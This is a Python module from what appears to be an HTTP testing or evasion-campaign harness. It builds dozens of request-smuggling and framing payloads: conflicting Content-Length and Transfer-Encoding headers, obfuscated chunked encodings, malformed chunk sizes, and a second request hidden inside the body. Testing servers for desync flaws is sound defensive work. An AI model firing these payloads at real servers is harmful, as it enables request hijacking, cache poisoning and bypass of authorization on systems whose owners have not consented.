# Requests that end elsewhere for one server than for another, and requests hidden within them.

from campaigns.evasions.message import ADA, CREDENTIALS, JSON, Attempt, Message, chunked

HIDDEN = Message().render(0).replace(b"ada0@", b"ada<n>@").replace(b": 29", b": 35")
"""A whole create, to be hidden in another request; its number has seven digits."""
ONE_MORE = chunked(ADA)
EMPTY = b"0\r\n\r\n"


def _hidden(name: str, *fields: bytes, before: bytes = b"", target: str = "/x", method: bytes = b"POST") -> Attempt:
    fields = (JSON, b"Connection: keep-alive", *fields)
    return Attempt("smuggling", name, Message(target, fields, before + HIDDEN, method=method))


LENGTH = b"Content-Length: %d" % len(HIDDEN.replace(b"<n>", b"1234567"))
LONGER = b"Content-Length: %d" % (int(LENGTH[16:]) + len(EMPTY))
SMUGGLED = (
    _hidden("a length before chunks", LONGER, b"Transfer-Encoding: chunked", before=EMPTY),
    _hidden("chunks before a length", b"Transfer-Encoding: chunked", LONGER, before=EMPTY),
    _hidden("a length of 0 before chunks", b"Content-Length: 0", b"Transfer-Encoding: chunked", before=EMPTY),
    *(
        _hidden(f"{line!r}", line, before=EMPTY)
        for line in (
            *(
                b"Transfer-Encoding: chunked",
                b"Transfer-Encoding : chunked",
                b"Transfer-Encoding: xchunked",
                b"Transfer-Encoding:\tchunked",
            ),
            *(
                b"Transfer-Encoding: chunked, identity",
                b"Transfer-Encoding: identity, chunked",
                b"Transfer-Encoding: chunked, chunked",
            ),
            *(
                b"Transfer-Encoding: identity",
                b"Transfer-Encoding: \x0bchunked",
                b'Transfer-Encoding: "chunked"',
                b"Transfer_Encoding: chunked",
            ),
            *(
                b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
                b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            ),
            *(
                b"Transfer-Encoding:\r\n chunked",
                b"X: y\nTransfer-Encoding: chunked",
                b"X: y\rTransfer-Encoding: chunked",
                b"Transfer-Encoding: CHUNKED",
            ),
            *(
                b"Transfer-Encoding: chunked\x00",
                b"Transfer-Encoding: chunked;x",
                b"Transfer-Encoding: ,chunked",
                b"Transfer-Encoding: ",
            ),
        )
    ),
    *(
        _hidden(f"{line!r}", line)
        for line in (
            *(
                b"Content-Length: 0",
                b"Content-Length: +0",
                b"Content-Length: -0",
                b"Content-Length: 0x0",
                b"Content-Length: 0 ",
                b"Content-Length: ",
            ),
            *(
                b"Content-Length : 0",
                b"Content_Length: 0",
                b"Content-Length: 0, 0",
                b"Content-Length: 0\r\nContent-Length: 0",
                b"Content-Length:0_0",
            ),
            *(
                b"Content-Length: 0\r\n" + LENGTH,
                LENGTH + b"\r\nContent-Length: 0",
                b"Content-Length: 0\x00",
                b"Content-Length: 0," + LENGTH[16:],
            ),
            *(
                LENGTH + b"\r\nConnection: Content-Length",
                LENGTH + b"\r\nUpgrade: h2c\r\nConnection: Upgrade",
                b"Content-Length: \xb2",
            ),
            *(
                b"Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: 0",
                LENGTH + b"\r\nExpect: 100-continue",
                b"Content-Length: 99999999999999999999",
            ),
        )
    ),
    *(
        _hidden(f"chunks: {chunks[:30]!r}", b"Transfer-Encoding: chunked", before=chunks)
        for chunks in (
            *(
                b"0\r\nX: y\r\n\r\n",
                b"0;x=y\r\n\r\n",
                b"0;x\r\n\r\n",
                b"00\r\n\r\n",
                b"0x0\r\n\r\n",
                b"+0\r\n\r\n",
                b"-0\r\n\r\n",
                b"0 \r\n\r\n",
                b" 0\r\n\r\n",
            ),
            *(
                b"0\n\n",
                b"0\r\n\n",
                b"0\n\r\n",
                b"0\r\r",
                b"\r\n0\r\n\r\n",
                b"1\r\nxx0\r\n\r\n",
                b"1\r\nx0\r\n\r\n",
                b"1\r\nx\n0\r\n\r\n",
                b"3\r\nx\r\n0\r\n\r\n",
            ),
            *(
                b"1;\nx\r\nx\r\n0\r\n\r\n",
                b"10000000000000001\r\nx\r\n0\r\n\r\n",
                b"0\r\nTransfer-Encoding: x\r\n\r\n",
                b"0\r\n" + LENGTH + b"\r\n\r\n",
            ),
            *(b"0;\x00\r\n\r\n", b'0;x="\r\n\r\n"\r\n\r\n', b"1_0\r\nx\r\n0\r\n\r\n", b"\r\n", b"g\r\n"),
        )
    ),
    _hidden("the body of a GET", LENGTH, target="/created", method=b"GET"),
    _hidden("behind a GET without a body", target="/created?", method=b"GET", before=b""),
    _hidden("behind HEAD", b"Content-Length: 0", target="/x", method=b"HEAD"),
    _hidden("behind a 401", b"Content-Length: 0", b"Authorization: x", target="/seats"),
    _hidden("as the body of a 401", LENGTH, b"Authorization: x", target="/seats"),
    _hidden("as the body of a 404 that is expected", LENGTH, b"Expect: 100-continue", target="/x"),
    _hidden("as trailers", b"Transfer-Encoding: chunked", before=b"0\r\n"),
)
TRAILERS = Message("/parcels", (b"Transfer-Encoding: chunked", b"X-Ref: x<n>"), b"0\r\nX-Ref: r<n>\r\n\r\n")
FRAMED: tuple[tuple[str, Message], ...] = (
    ("HTTP/1.0", Message(version=b"HTTP/1.0")),
    ("HTTP/1.0, kept", Message(fields=(JSON, b"Connection: keep-alive"), version=b"HTTP/1.0")),
    ("HTTP/1.0, chunked", Message(fields=(JSON, b"Transfer-Encoding: chunked"), coding=chunked, version=b"HTTP/1.0")),
    ("HTTP/0.9", Message("/users\r\n", version=b"")),
    *(
        (version.decode(), Message(version=version))
        for version in (b"HTTP/2.0", b"HTTP/1.2", b"HTTP/1.10", b"http/1.1", b"HTTP/1", b"HTTP/01.1")
    ),
    ("the preface of HTTP/2", Message("*", method=b"PRI", version=b"HTTP/2.0", body=b"SM\r\n\r\n" + HIDDEN)),
    ("two blanks in the request line", Message(" /users")),
    ("a tab in the request line", Message("/users\tHTTP/1.1", version=b"")),
    ("an empty line before", Message(method=b"\r\nPOST")),
    ("ten empty lines before", Message(method=b"\r\n" * 10 + b"POST")),
    ("chunked", Message(fields=(JSON, b"Transfer-Encoding: chunked"), coding=chunked)),
    (
        "chunked, with extensions",
        Message(
            fields=(JSON, b"Transfer-Encoding: chunked"),
            coding=lambda body: b"%x;a=b\r\n%b\r\n0\r\n\r\n" % (len(body), body),
        ),
    ),
    ("chunked, with capitals", Message(fields=(JSON, b"Transfer-Encoding: Chunked"), coding=chunked)),
    ("a body shorter than its length", Message(fields=(JSON, b"Content-Length: 40"))),
    ("a body longer than its length", Message(fields=(JSON, b"Content-Length: 35"), behind=b" {}")),
    ("a length with leading zeros", Message(fields=(JSON, b"Content-Length: 0035"))),
    ("a length with a plus", Message(fields=(JSON, b"Content-Length: +35"))),
    ("a length twice, alike", Message(fields=(JSON, b"Content-Length: 35", b"Content-Length: 35"))),
    ("a length twice in one", Message(fields=(JSON, b"Content-Length: 35, 35"))),
    ("no length", Message(fields=(JSON, b"Content-Length:"))),
    ("Host twice", Message(fields=(JSON, b"Host: api.example", b"Host: other.example"))),
    ("no Host", Message(fields=(JSON, b"X: Host"))),
    ("an empty Host", Message(fields=(JSON, b"Host:"))),
    ("another Host", Message(fields=(JSON, b"Host: other.example"))),
    ("Host with a path", Message(fields=(JSON, b"Host: api.example/users"))),
    ("Expect", Message(fields=(JSON, b"Expect: 100-continue"))),
    ("Expect of something else", Message(fields=(JSON, b"Expect: 200-ok"))),
    ("an upgrade", Message(fields=(JSON, b"Upgrade: websocket", b"Connection: Upgrade"))),
    (
        "an upgrade to h2c",
        Message(
            fields=(JSON, b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABkAAQAAP__", b"Connection: Upgrade, HTTP2-Settings")
        ),
    ),
    ("TE: trailers", Message(fields=(JSON, b"TE: trailers"))),
    ("a line without a colon", Message(fields=(JSON, b"X"))),
    ("a line with LF alone", Message(fields=(JSON, b"X: y\nZ: w"))),
    ("an empty name", Message(fields=(JSON, b": x"))),
    ("Connection: Content-Length", Message(fields=(JSON, b"Connection: Content-Length"))),
    ("Connection: Host", Message(fields=(JSON, b"Connection: close, Host"))),
    ("credentials in another case", Message(fields=(JSON, CREDENTIALS.replace(b"Bearer", b"bearer")))),
    ("credentials behind two blanks", Message(fields=(JSON, CREDENTIALS.replace(b"Bearer", b"Bearer ")))),
)

ATTEMPTS = (
    *SMUGGLED,
    *(Attempt("framing", name, message) for name, message in FRAMED),
    Attempt("framing", "a field in the trailers", TRAILERS, "parcels"),
)
